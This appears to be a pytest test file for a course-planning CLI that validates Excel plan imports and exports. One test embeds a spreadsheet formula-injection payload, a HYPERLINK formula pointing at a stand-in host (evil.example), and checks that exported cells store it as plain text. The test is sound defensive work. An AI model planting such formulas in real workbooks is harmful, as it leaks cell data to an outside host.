"""Broken plans: every problem names the sheet and cell, the command exits 1 and writes nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from lxkit.__main__ import cli
from tests.helpers import valid_course, write_portal
from tests.plan.test_round_trip import WEEKS, fill


@pytest.fixture
def portal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = write_portal(tmp_path / "academy", {})
    monkeypatch.chdir(root)
    assert CliRunner().invoke(cli, ["new", "plan", "plan.xlsx"]).exit_code == 0
    return root


def import_broken(portal: Path, weeks: list[list[Any]], name: str = "plan.xlsx") -> list[str]:
    """Import a plan that must fail: its messages (stderr), after checking nothing was written."""
    if weeks:
        fill(portal / name, weeks)
    result = CliRunner().invoke(cli, ["new", "course", "broken", "--from", name])
    assert result.exit_code == 1, result.output
    assert not (portal / "courses/broken").exists()
    assert list((portal / "courses").iterdir()) == []
    return result.output.splitlines()


def test_text_in_a_minutes_column_and_an_unknown_stage_are_named_by_cell(portal: Path) -> None:
    weeks = [list(row) for row in WEEKS]
    weeks[0][7] = "about 45"  # row 2, column H: Pre-work minutes
    weeks[2][2] = "discovery"  # row 4, column C: Journey stage
    weeks[1][10] = 12.5  # row 3, column K: Activity minutes
    lines = import_broken(portal, weeks)
    assert any(
        line.endswith(
            "plan.xlsx:Weeks!H2: 'about 45' is not a number for 'Pre-work minutes'; write a whole number such as 20"
        )
        for line in lines
    ), lines
    assert any("plan.xlsx:Weeks!K3: '12.5' is not a number for 'Activity minutes'" in line for line in lines)
    assert any(
        "plan.xlsx:Weeks!C4: 'discovery' is not a journey stage; use one of: awareness, capability-building" in line
        for line in lines
    )
    assert any("3 problems in the plan; nothing was written" in line for line in lines)


def test_a_week_without_a_title_and_a_row_without_a_week(portal: Path) -> None:
    weeks = [list(row) for row in WEEKS]
    weeks[2][1] = None
    weeks.append([None, None, None, "Explain a stray objective."] + [None] * 10)
    lines = import_broken(portal, weeks)
    assert any("plan.xlsx:Weeks!A5: this row has no week; write the week number" in line for line in lines), lines
    book = load_workbook(portal / "plan.xlsx")
    book["Weeks"]["A5"] = None
    book["Weeks"]["D5"] = None
    book.save(portal / "plan.xlsx")
    lines = import_broken(portal, [])
    assert any("plan.xlsx:Weeks!B4: week 2 has no module title; write it on this row" in line for line in lines), lines


def test_a_missing_sheet_and_a_wrong_status(portal: Path) -> None:
    book = Workbook()
    book.active.title = "Course"
    book.save(portal / "other.xlsx")
    lines = import_broken(portal, [], "other.xlsx")
    assert any("other.xlsx:Weeks!A1: the sheet 'Weeks' is missing (sheets: Course)" in line for line in lines), lines
    fill(portal / "plan.xlsx", WEEKS)
    book = load_workbook(portal / "plan.xlsx")
    book["Course"]["B4"] = "finished"
    book.save(portal / "plan.xlsx")
    lines = import_broken(portal, [])
    assert any("plan.xlsx:Course!B4: 'finished' is not a status; use one of: draft, pilot" in line for line in lines)


def test_a_file_that_is_not_a_workbook(portal: Path) -> None:
    (portal / "notes.xlsx").write_text("not a workbook", "utf-8")
    lines = import_broken(portal, [], "notes.xlsx")
    assert any("notes.xlsx: cannot open this file as an Excel workbook" in line for line in lines), lines


def test_new_plan_never_overwrites_without_force(portal: Path) -> None:
    result = CliRunner().invoke(cli, ["new", "plan", "plan.xlsx"])
    assert result.exit_code == 2 and "already exists; use --force" in result.output
    assert CliRunner().invoke(cli, ["new", "plan", "plan.xlsx", "--force"]).exit_code == 0
    assert CliRunner().invoke(cli, ["new", "plan", "plan.txt"]).exit_code == 2


def test_texts_that_look_like_formulas_are_written_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
    files = valid_course("demo")
    files["index.md"] = files["index.md"].replace("summary: A short", "summary: =1+1 A short")
    module = files["01-reading-charts.md"]
    files["01-reading-charts.md"] = module.replace("title: Reading charts", f"title: '{formula}'")
    root = write_portal(tmp_path / "academy", {"demo": files})
    monkeypatch.chdir(root)
    assert CliRunner().invoke(cli, ["export", "plan", "demo", "-o", "out.xlsx"]).exit_code == 0
    book = load_workbook(root / "out.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []  # Excel would run them
    assert formula in [cell.value for cell in cells]


def test_a_cell_far_out_right_does_not_make_every_row_that_wide(portal: Path) -> None:
    from lxkit.plan.workbook import MAX_COLUMNS, _xlsx_sheets

    book = load_workbook(portal / "plan.xlsx")
    for number in range(2, 400):
        book["Weeks"].cell(row=number, column=16384, value="x")  # column XFD: 16,384 cells a row
        book["Instructions"].cell(row=number, column=16384, value="x")
    book.save(portal / "plan.xlsx")
    sheets = _xlsx_sheets(portal / "plan.xlsx")
    assert max(len(row) for row in sheets["Weeks"]) == MAX_COLUMNS and len(sheets["Weeks"]) == 399
    assert sheets["Instructions"] == []  # only the Course and Weeks sheets are read
